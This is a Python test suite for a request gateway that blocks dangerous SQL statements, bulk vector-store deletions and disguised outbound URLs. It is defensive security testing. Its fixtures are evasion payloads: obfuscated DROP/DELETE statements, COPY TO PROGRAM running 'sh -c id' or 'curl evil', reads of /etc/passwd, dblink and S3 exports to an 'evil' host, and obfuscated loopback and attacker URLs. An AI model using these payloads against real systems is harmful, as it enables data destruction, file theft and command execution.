"""Requests that say in yet other ways what guards refuse: statements within texts, in other dialects and other letters, deletes of
vector stores, addresses in other notations; and texts about SQL, which pass. Usage: guard_evasion_test.py BUILD"""
import base64
import json
import os
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '../support'))
from gateway import answer  # noqa: E402
from guarded import Guarded, Keeper, chunked, gzipped, head_of, parts, verdict_of  # noqa: E402

BUILD = sys.argv.pop(1)
POLICY = '''
[[origin]]
name = "origin"
address = "127.0.0.1:{origin_port}"
[[route]]
name = "all"
hosts = ["any.gate.example.org"]
origin = "origin"
[[guard]]
name = "sql"
[guard.statements]
commands = ["/**/statement", "/**/sql", "/**/query"]
documents = ["/**/text", "/**/content", "/**/page_content"]
anywhere = true
[[guard]]
name = "leaving"
messages = ["requests", "answers"]
[guard.addresses]
fields = ["/**/callback", "/**/endpoint"]
anywhere = true
hosts = ["files.example.org"]
schemes = ["https", "s3"]
buckets = ["chunks"]
[[guard]]
name = "bulk"
[guard.bulk]
[[guard]]
name = "weaviate"
[[guard.shape]]
at = ["#"]
only = ["match", "dryRun", "output"]
[[guard.shape]]
at = ["/match"]
present = true
types = ["object"]
only = ["class", "where"]
[[guard.shape]]
at = ["/match/where"]
present = true
types = ["object"]
only = ["path", "operator", "valueText"]
[[guard.shape]]
at = ["/match/where/operator"]
present = true
in = ["Equal"]
[[guard]]
name = "milvus"
[[guard.shape]]
at = ["#"]
only = ["collectionName", "dbName", "id"]
[[guard.shape]]
at = ["/id"]
types = ["array"]
non_empty = true
max = 100
[[guard]]
name = "pinecone"
[[guard.shape]]
at = ["#"]
only = ["ids", "namespace"]
[[guard.shape]]
at = ["/ids"]
types = ["array"]
non_empty = true
[[guard.shape]]
at = ["/ids/*"]
types = ["string"]
min = 1
[[rule]]
name = "sql"
effect = "allow"
groups = ["chunk-jobs"]
paths = ["/sql/**"]
origin = "origin"
guards = ["sql", "leaving"]
[[rule]]
name = "bulk"
effect = "allow"
groups = ["chunk-jobs"]
paths = ["/bulk"]
origin = "origin"
guards = ["bulk"]
[[rule]]
name = "weaviate"
effect = "allow"
groups = ["chunk-jobs"]
methods = ["DELETE"]
paths = ["/v1/batch/objects"]
origin = "origin"
guards = ["weaviate"]
[[rule]]
name = "milvus"
effect = "allow"
groups = ["chunk-jobs"]
methods = ["POST"]
paths = ["/v2/vectordb/entities/delete"]
origin = "origin"
guards = ["milvus"]
[[rule]]
name = "pinecone"
effect = "allow"
groups = ["chunk-jobs"]
methods = ["POST"]
paths = ["/vectors/delete", "/api/v2/tenants/*/databases/*/collections/*/delete"]
origin = "origin"
guards = ["pinecone"]
'''
JSON = 'application/json'
FIELD = b'Content-Disposition: form-data; name="%s"'


def said(text, key='statement'):
    return JSON, json.dumps({key: text}).encode()


def other(value):
    """Beside any field that is named."""
    return JSON, json.dumps({'options': value}).encode()


DROP = 'DROP TABLE docs'
NESTED = json.dumps({'a': [DROP]})
WIDE = ''.join(chr(ord(c) + 0xfee0) if '!' <= c <= '~' else c for c in DROP)
# (what, (type, body)): each is refused on /sql/x
STATEMENTS = [
    ('an escaped string that ends later', said(r"SELECT E'\'; DROP TABLE docs; --'")),
    ('a string for one reader, code for another', said(r"SELECT '\'; DROP TABLE docs; -- '")),
    ('dollars around, and behind', said('SELECT $a$ x $a$; DROP TABLE docs')),
    ('dollars of another tag inside', said('SELECT $a$ $b$ $a$; TRUNCATE docs; SELECT $b$')),
    ('a block in dollars', said('DO LANGUAGE plpgsql $q$BEGIN EXECUTE $x$DROP TABLE docs$x$; END$q$')),
    ('a program in COPY', said("copy (select 1) to program 'sh -c id' with (format csv)")),
    ('a program that is read', said("COPY docs FROM PROGRAM 'curl evil'")),
    ('a name in unicode escapes', said('DROP TABLE U&"\\0064ocs"')),
    ('comments that nest', said('/*/**/*/DROP/*/*/**/*/*/TABLE/**/docs')),
    ('a condition in a comment of MySQL', said('DELETE FROM docs /*!99999 WHERE id = 1 */')),
    ('a comment to the end by a sign', said('DELETE FROM docs # WHERE id = 1')),
    ('full-width letters', said(WIDE)),
    ('joiners between letters', said('DR\u200dOP TA\u200cBLE docs')),
    ('a soft hyphen', said('DE\u00adLETE FROM docs')),
    ('a mark of direction', said('\u202eDROP TABLE docs')),
    ('tags that cannot be seen', said('DROP\U000e0020TABLE docs')),
    ('a space of ideographs', said('DROP\u3000TABLE\u3000docs')),
    ('several spaces of other scripts', said('TRUNCATE\u2003docs')),
    ('Snowflake: a table from behind', said('CREATE OR REPLACE TABLE docs CLONE empty')),
    ('Snowflake: to another time', said('CREATE OR REPLACE TABLE docs AS SELECT * FROM docs AT (OFFSET => -99)')),
    ('Snowflake: a block', said("BEGIN LET q := 'DROP TABLE docs'; EXECUTE IMMEDIATE q; END")),
    ('Snowflake: to a stage', said("COPY INTO @~/x FROM docs")),
    ('Snowflake: several tables', said('INSERT OVERWRITE INTO docs SELECT 1')),
    ('Snowflake: all of a schema', said('DROP SCHEMA s CASCADE')),
    ('Databricks: vacuum', said('VACUUM docs RETAIN 0 HOURS')),
    ('Databricks: back in time', said('RESTORE TABLE docs TO VERSION AS OF 0')),
    ('Databricks: overwrite', said('INSERT OVERWRITE docs VALUES (1)')),
    ('Databricks: a place', said("INSERT OVERWRITE DIRECTORY 's3://evil/x' SELECT * FROM docs")),
    ('Databricks: conditions of merge', said('MERGE INTO d USING s ON d.i = s.i WHEN NOT MATCHED BY SOURCE THEN DELETE')),
    ('MySQL: a file', said("SELECT * FROM docs INTO OUTFILE '/var/www/x'")),
    ('MySQL: load', said("LOAD DATA INFILE '/etc/passwd' INTO TABLE docs")),
    ('MySQL: several tables', said('DELETE a, b FROM a INNER JOIN b')),
    ('MySQL: a handle', said('HANDLER docs OPEN')),
    ('MySQL: rename', said('RENAME TABLE docs TO old')),
    ('MySQL: replace', said('REPLACE INTO docs SELECT * FROM empty')),
    ('PostgreSQL: owner', said('REASSIGN OWNED BY a TO b')),
    ('PostgreSQL: a large object', said("SELECT lo_export(1, '/tmp/x')")),
    ('PostgreSQL: a file', said("SELECT pg_read_file('/etc/passwd')")),
    ('PostgreSQL: a link', said("SELECT dblink_exec('host=evil', 'x')")),
    ('PostgreSQL: text that runs', said("SELECT query_to_xml('DELETE FROM docs', true, true, '')")),
    ('PostgreSQL: a rule', said('CREATE RULE r AS ON SELECT TO docs DO INSTEAD DELETE FROM docs')),
    ('PostgreSQL: a condition by a row', said('DELETE FROM docs WHERE (id, id) = (id, id)')),
    ('PostgreSQL: a condition by a cast', said('DELETE FROM docs WHERE true::boolean')),
    ('PostgreSQL: exists', said('DELETE FROM docs WHERE EXISTS (SELECT 1)')),
    ('PostgreSQL: coalesce', said('DELETE FROM docs WHERE COALESCE(NULL, true)')),
    ('PostgreSQL: length of nothing less', said("UPDATE docs SET a = 1 WHERE 1 < 2 OR id = 7")),
    ('all rows in two halves', said('UPDATE docs SET a = 1 WHERE b > 7 OR b <= 7')),
    ('all rows through a cast', said('UPDATE docs SET a = 1 WHERE id = id::text::int')),
    ('all rows by an array', said('UPDATE docs SET a = 1 WHERE id = ANY(ARRAY[id])')),
    ('all rows by a pattern in pieces', said("UPDATE docs SET a = 1 WHERE b LIKE '%' || ''")),
    ('all rows by an expression', said("UPDATE docs SET a = 1 WHERE b ~ '[^x]*'")),
    ('another role', said("SELECT set_config('role', 'admin', false)")),
    ('a statement in a document in a text', other(NESTED)),
    ('deeper', other(json.dumps({'event': json.dumps({'body': NESTED})}))),
    ('beside what is nested too deep', other('{"q":"DROP TABLE docs","x":' + '[' * 130 + ']' * 130 + '}')),
    ('beside what only some take for a number', other('{"q":"DROP TABLE docs","x":[NaN, -Infinity]}')),
    ('all rows behind many', said('DELETE FROM docs WHERE ' + ' OR '.join(f'id = {i}' for i in range(70)) + ' OR a = 1 OR a <> 1')),
    ('in a text, with escapes of its own', other('{"a":"DROP \\u0054ABLE docs"}')),
    ('in a list in a text', other(' \n' + json.dumps(['x', DROP]))),
    ('twice in a document in a text', other('{"a":"x","\\u0061":"DROP TABLE docs"}')),
    ('in a field of a form, as JSON', ('application/x-www-form-urlencoded', b'payload=%7B%22x%22%3A%22DROP+TABLE+docs%22%7D')),
    ('a part of an odd name', parts('form-data', ([FIELD % b'a%22; name=text'], DROP.encode()))),
    ('a part of two names', parts('form-data', ([FIELD % b'text' + b'; name="sql"'], DROP.encode()))),
    ('a part of an extended name', parts('form-data', ([b"Content-Disposition: form-data; name*=utf-8''sql"], b'CALL wipe()'))),
    ('a part without a name', parts('form-data', ([b'Content-Disposition: form-data'], DROP.encode()))),
    ('a part with gzip in base64', parts('form-data', ([FIELD % b'sql', b'Content-Transfer-Encoding: base64'], base64.b64encode(gzipped(DROP.encode()))))),
    ('a part with base64 cut by spaces', parts('form-data', ([FIELD % b'sql', b'Content-Transfer-Encoding: base64'], b'RFJP\r\n UCBUQUJM\r\nRSBkb2Nz'))),
    ('a part that quotes', parts('form-data', ([FIELD % b'sql', b'Content-Transfer-Encoding: quoted-printable'], b'D=52OP TABLE docs'))),
    ('the last line of many', ('application/x-ndjson', b'{"a":1}\n' * 9998 + b'{"sql":"DROP TABLE docs"}\n')),
    ('a key twice, once escaped', (JSON, b'{"sql":"SELECT 1","s\\u0071l":"DROP TABLE docs"}')),
    ('UTF-16', (JSON, ('{"sql":"%s"}' % DROP).encode('utf-16'))),
    ('UTF-16 without a mark', (JSON, ('{"sql":"%s"}' % DROP).encode('utf-16-be'))),
    ('UTF-32', (JSON, ('{"sql":"%s"}' % DROP).encode('utf-32-le'))),
    ('UTF-7', ('application/json; charset=utf-7', b'{"sql":"+AEQ-ROP TABLE docs"}')),
    ('EBCDIC, it says', ('application/json; charset=ibm500', b'{"sql":"SELECT 1"}')),
    ('Latin, but it is none', ('application/json; charset=iso-8859-1', b'{"sql":"DROP TABLE docs"}')),
    ('two charsets', ('application/json; charset=utf-8; charset=utf-16le', b'{"sql":"DROP TABLE docs"}')),
]
# refused on /sql/x, and in answers
ADDRESSES = ['http://files.example.org/x', 'https://files.example.org@evil.example/', 'https://evil.example#files.example.org', 'https://[::1]/',
             'https://[::ffff:7f00:1]/', 'https://[fe80::1%25eth0]/', 'https://2130706433/', 'https://017700000001/', 'https://0x7f.1/',
             'https://127.1/', 'https://%65vil.example/', 'https://files.example.org%2eevil.example/', 'https://files.example.org:443@evil.example/',
             'https://files。example。org.evil.example/', 'https://ⓔvil.example/', 'https:\\\\evil.example\\x', 'https:/evil.example', 'HTTPS://EVIL.EXAMPLE',
             ' https://evil.example/x', 'h\tttps://evil.example/', '//evil.example/x', 's3://theirs/x', 'gs://chunks/x', 'ftp://files.example.org/x',
             'https://files.example.org\t.evil.example/', 'https://evil.s3.amazonaws.com/x?X-Amz-Signature=1', 'https://s3.amazonaws.com/theirs/x']
# (what, method, path, body): refused
STORES = [
    ('Weaviate: all of a class', 'DELETE', '/v1/batch/objects', {'match': {'class': 'Doc'}}),
    ('Weaviate: an empty condition', 'DELETE', '/v1/batch/objects', {'match': {'class': 'Doc', 'where': {}}}),
    ('Weaviate: like anything', 'DELETE', '/v1/batch/objects', {'match': {'class': 'Doc', 'where': {'path': ['id'], 'operator': 'Like', 'valueText': '*'}}}),
    ('Weaviate: not equal', 'DELETE', '/v1/batch/objects', {'match': {'where': {'operator': 'NotEqual', 'path': ['id'], 'valueText': ''}}}),
    ('Weaviate: operands', 'DELETE', '/v1/batch/objects', {'match': {'where': {'operator': 'Equal', 'operands': []}}}),
    ('Milvus: a filter', 'POST', '/v2/vectordb/entities/delete', {'collectionName': 'c', 'filter': 'id >= 0'}),
    ('Milvus: a filter beside ids', 'POST', '/v2/vectordb/entities/delete', {'collectionName': 'c', 'id': [1], 'filter': 'true'}),
    ('Milvus: no ids', 'POST', '/v2/vectordb/entities/delete', {'collectionName': 'c', 'id': []}),
    ('Milvus: ids that are none', 'POST', '/v2/vectordb/entities/delete', {'collectionName': 'c', 'id': '*'}),
    ('Pinecone: all', 'POST', '/vectors/delete', {'deleteAll': True}),
    ('Pinecone: all beside ids', 'POST', '/vectors/delete', {'ids': ['1'], 'deleteAll': 'true'}),
    ('Pinecone: another case', 'POST', '/vectors/delete', {'ids': ['1'], 'delete_all': True}),
    ('Pinecone: by metadata', 'POST', '/vectors/delete', {'filter': {'x': {'$exists': True}}}),
    ('Chroma: everything', 'POST', '/api/v2/tenants/t/databases/d/collections/c/delete', {}),
    ('Chroma: where anything', 'POST', '/api/v2/tenants/t/databases/d/collections/c/delete', {'ids': ['1'], 'where_document': {'$contains': ''}}),
    ('Chroma: ids that are null', 'POST', '/api/v2/tenants/t/databases/d/collections/c/delete', {'ids': None}),
    ('Chroma: a collection', 'DELETE', '/api/v2/tenants/t/databases/d/collections/c', None),
]
BULK = [b'{"index":{"_id":"%d"}}\n{"a":1}\n' % 1 * 4999 + b'{"delete":{"_id":"7"}}\n', b'{"index":{}}\n{"a":1}\n\n{"delete":{"_id":"7"}}\n',
        b'{"create":{"_id":"1"},"delete":{"_id":"7"}}\n{"a":1}\n', b'{"DELETE":{"_id":"7"}}\n', b'{"index":{}}\n[{"delete":{}}]\n',
        b'\xef\xbb\xbf{"delete":{"_id":"7"}}\n']
GOOD = [said('SELECT body FROM docs WHERE id = 7'), said('UPDATE docs SET a = p.v FROM hist p WHERE docs.n = p.n + 1'),
        said("INSERT INTO docs (id, body) VALUES (1, 'DROP TABLE docs')"),
        said("UPDATE docs SET body = 'x' WHERE id IN (1, 2)"), other('{"a":"to drop tables is an art"}'), other('[1, 2] and so on'),
        other('{"note":"see https for more"}'), other('https://files.example.org/a'), other('s3://chunks/in/7')]


def about_sql():
    """Chunk texts as documentation of databases has them: what they quote is no command."""
    commands = ('DROP TABLE docs;', 'DELETE FROM docs;', 'TRUNCATE docs;', 'GRANT ALL ON docs TO app;', "COPY docs TO PROGRAM 'gzip > x';",
                'DO $$ BEGIN PERFORM 1; END $$;', 'ALTER TABLE docs DROP COLUMN body;', 'UPDATE docs SET body = NULL;',
                'MERGE INTO docs USING s ON true WHEN MATCHED THEN DELETE;', 'CALL wipe();')
    frames = ('{}', 'To empty a table, run {} and check the row count afterwards.', '```sql\n{}\n```', '## Cleaning up\n\n{}\n\nThis cannot be undone.',
              '> {}\n\nwas what the intern typed.', '{} -- do not do this', '1. Make a backup.\n2. {}\n3. Restore.', '<pre>{}</pre>',
              'SELECT 1; {}', '-- migration 7\nBEGIN;\n{}\nCOMMIT;', '/* example */ {}', '“{}” is refused by default.',
              'Q: what does {} do?\nA: it removes every row.', '| command | effect |\n|--|--|\n| {} | all rows go |', 'psql> {}\nCOMMAND OK',
              '{{"sql":"{}"}}', 'See also {} and its relatives.', '\t{}', '{}\n{}', 'Übung 7: {} – was geschieht?')
    return [frame.format(*[command] * frame.count('{}')) for frame in frames for command in commands]


class Evasion(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.gateway = Guarded(BUILD, POLICY).start()
        cls.says = b'{}'
        cls.origin = Keeper(cls.gateway, lambda head, body: answer(cls.says))

    @classmethod
    def tearDownClass(cls):
        cls.origin.stop()
        cls.gateway.__exit__(None)

    def setUp(self):
        type(self).says = b'{}'
        self.origin.came.clear()

    def ask(self, method, path, content_type, body, length=True):
        fields = [f'Content-Type: {content_type}'] if body is not None else []
        body = body or b''
        with self.gateway.client() as client:
            head = head_of(method, path, self.gateway.jobs, 'any', fields, length=len(body) if length else None)
            client.send(head + (body if length else chunked(body, [1, 2, 3, 5, 8, 13])))
            return verdict_of(*client.message())

    def explained(self, bodies):
        """What `explain` decides of bodies of /sql/x."""
        lines = [json.dumps({'method': 'POST', 'path': '/sql/x', 'host': 'any.gate.example.org', 'token': self.gateway.jobs, 'from': '127.0.0.1',
                             'headers': [f'Content-Type: {content_type}'], 'body_base64': base64.b64encode(body).decode()}) for content_type, body in bodies]
        self.gateway.world.write('requests.jsonl', '\n'.join(lines) + '\n')
        done = self.gateway.world.gatehouse('explain', '--config', 'gateway.toml', '--requests', 'requests.jsonl')
        return [json.loads(line) for line in done.out.splitlines()]

    def test_explain_says_the_same(self):
        bodies = [body for _, body in STATEMENTS] + [other(text) for text in ADDRESSES] + GOOD
        told = self.explained(bodies)
        self.assertEqual(len(told), len(bodies))
        for (content_type, body), says in zip(bodies, told):
            with self.subTest(body):
                self.assertEqual(self.ask('POST', '/sql/x', content_type, body), (says['status'], '' if says['decision'] == 'allow' else says['reason']))

    def test_statements(self):
        for what, (content_type, body) in STATEMENTS:
            for length in (True, False):
                with self.subTest(what, length=length):
                    status, reason = self.ask('POST', '/sql/x', content_type, body, length)
                    self.assertIn(status, (400, 403, 415, 422), (reason, body[:200]))
        self.assertEqual(self.origin.came, [])

    def test_addresses(self):
        for text in ADDRESSES:
            for body in (other(text)[1], said(text, 'callback')[1], other(json.dumps({'x': text}))[1]):
                with self.subTest(text, body=body):
                    self.assertEqual(self.ask('POST', '/sql/x', JSON, body)[1], 'guard_hit')
        self.assertEqual(self.origin.came, [])

    def test_addresses_in_answers(self):
        for text in ADDRESSES:
            for body in (other(text)[1], other(json.dumps({'x': text}))[1]):
                type(self).says = body
                with self.subTest(text, body=body):
                    self.assertEqual(self.ask('POST', '/sql/x', JSON, b'{}')[1], 'guard_answer')

    def test_vector_stores(self):
        for what, method, path, body in STORES:
            with self.subTest(what):
                self.assertEqual(self.ask(method, path, JSON, None if body is None else json.dumps(body).encode())[0], 403)
        self.assertEqual(self.origin.came, [])
        for method, path, body in (('DELETE', '/v1/batch/objects', {'match': {'class': 'D', 'where': {'path': ['id'], 'operator': 'Equal', 'valueText': 'a'}}}),
                                   ('POST', '/v2/vectordb/entities/delete', {'collectionName': 'c', 'id': [1, 2]}),
                                   ('POST', '/vectors/delete', {'ids': ['1'], 'namespace': 'n'})):
            self.assertEqual(self.ask(method, path, JSON, json.dumps(body).encode()), (200, ''), path)

    def test_bulk(self):
        for body in BULK:
            with self.subTest(body[-60:]):
                self.assertEqual(self.ask('POST', '/bulk', 'application/x-ndjson', body)[0] // 100, 4)
        self.assertEqual(self.origin.came, [])

    def test_what_is_meant_well_passes(self):
        for content_type, body in GOOD:
            with self.subTest(body):
                self.assertEqual(self.ask('POST', '/sql/x', content_type, body), (200, ''))

    def test_documents_about_sql_pass(self):
        texts = about_sql()
        self.assertGreaterEqual(len(texts), 200)
        self.assertEqual(len(set(texts)), len(texts))
        for text in texts:
            for body in ({'text': text}, {'chunks': [{'content': text, 'metadata': {'page_content': text}}]}):
                with self.subTest(text):
                    self.assertEqual(self.ask('POST', '/sql/x', JSON, json.dumps(body).encode()), (200, ''))


if __name__ == '__main__':
    unittest.main(verbosity=2)
